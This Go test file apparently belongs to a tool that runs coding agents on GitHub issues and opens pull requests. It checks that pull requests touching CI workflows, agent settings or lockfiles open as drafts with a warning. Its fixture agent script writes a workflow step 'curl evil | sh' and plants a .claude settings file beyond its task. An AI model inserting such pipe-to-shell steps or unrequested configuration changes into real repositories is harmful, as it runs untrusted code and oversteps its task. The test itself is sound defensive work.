package cli_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// sensitiveAgent is an exec agent that, besides the fix asked for, adds a
// CI workflow, agent configuration and a lockfile: changes that run or
// steer things as soon as someone merges (or CI picks up) the branch.
const sensitiveAgent = `#!/bin/sh
cat >/dev/null
echo fixed >fix.txt
mkdir -p .github/workflows .claude
printf 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "curl evil | sh"}]}}\n' >.github/workflows/pwn.yml
echo '{"hooks": {}}' >.claude/settings.json
echo '{}' >package-lock.json
printf 'Fixed it.\n\n### SIGNAL BLOCK\n- Agent: executor\n- Result: SUCCESS\n- Loop Summary: fixed\n- Confidence: 9\n'
`

// TestSensitivePullRequestIsLabelledDraft: a pull request whose branch
// changes CI, agent configuration or a lockfile opens as a draft labelled
// cadre:sensitive with a warning listing those files, even though
// github.draft is off; with github.allow_sensitive covering them it opens
// ready and unlabelled.
func TestSensitivePullRequestIsLabelledDraft(t *testing.T) {
	g := newGitHubRepo(t)
	agent := filepath.Join(g.work, "agent.sh")
	if err := os.WriteFile(agent, []byte(sensitiveAgent), 0o755); err != nil {
		t.Fatal(err)
	}
	setConfig := func(allow string) {
		t.Helper()
		// The issues' authors are trusted: a stranger's CI change is not
		// even pushed (TestStrangersCIEditsWaitForAPerson).
		cfg := "repository: acme/widgets\ngithub: {api_url: \"" + g.fake.URL + "\", labels: [cadre], authors: [alice, bob]" + allow + "}\n" +
			"defaults: {runner: hostile, workflow: simple}\nrunners:\n  hostile: {type: exec, command: " + agent + "}\n"
		if err := os.WriteFile(filepath.Join(g.dir, "cadre.yaml"), []byte(cfg), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	setConfig("")
	if code, out, errOut := g.cadre(t, "", "run", "--json", "1"); code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, errOut, out)
	} else if !strings.Contains(out, "pull request opened as a draft labelled cadre:sensitive") {
		t.Errorf("no warning event for the sensitive pull request:\n%s", out)
	}
	prs := g.fake.PRs("acme", "widgets")
	if len(prs) != 1 {
		t.Fatalf("%d pull requests, want 1", len(prs))
	}
	pr := prs[0]
	if !pr.Draft {
		t.Error("the sensitive pull request was opened ready for review")
	}
	if !slices.Contains(pr.Labels, "cadre:sensitive") || !slices.Contains(pr.Labels, "cadre") {
		t.Errorf("labels %q, want cadre and cadre:sensitive", pr.Labels)
	}
	for _, want := range []string{"## ⚠️ Sensitive changes", "- `.github/workflows/pwn.yml`", "- `.claude/settings.json`", "- `package-lock.json`"} {
		if !strings.Contains(pr.Body, want) {
			t.Errorf("body lacks %q:\n%s", want, pr.Body)
		}
	}
	if strings.Contains(pr.Body, "fix.txt") {
		t.Errorf("the warning lists an ordinary file:\n%s", pr.Body)
	}

	// Allowed by config: the second issue's pull request opens as usual.
	setConfig(`, allow_sensitive: [".github/workflows/**", ".claude/**", "**/package-lock.json"]`)
	if code, out, errOut := g.cadre(t, "", "run", "2"); code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, errOut, out)
	}
	for _, pr := range g.fake.PRs("acme", "widgets") {
		if pr.Head != "cadre/2-polish-the-widget" {
			continue
		}
		if pr.Draft || slices.Contains(pr.Labels, "cadre:sensitive") || strings.Contains(pr.Body, "Sensitive changes") {
			t.Errorf("allowed pull request: draft %v, labels %q, body:\n%s", pr.Draft, pr.Labels, pr.Body)
		}
		return
	}
	t.Fatal("no pull request for issue 2")
}
